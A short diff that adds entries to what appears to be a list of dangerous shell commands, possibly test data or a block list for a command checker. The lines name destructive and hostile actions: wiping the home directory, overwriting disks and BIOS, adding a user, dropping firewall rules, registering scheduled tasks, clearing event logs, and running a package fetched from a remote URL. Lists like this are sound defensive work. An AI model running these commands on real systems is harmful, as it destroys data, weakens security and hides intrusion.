@@ -301,6 +301,12 @@ partclone.restore -s x.img -o /dev/sdb1
 fsarchiver restfs x.fsa id=0,dest=/dev/sdb1
 flashrom -w bios.bin
 sv down nginx
+wsl rm -rf ~
+Stop-Service sshd
+New-LocalUser x
+Remove-NetFirewallRule x
+Register-ScheduledTask x
+Clear-EventLog x
 pm2 kill
 pip install -t /usr/lib/x y
 npm exec https://x.example.net/p.tgz
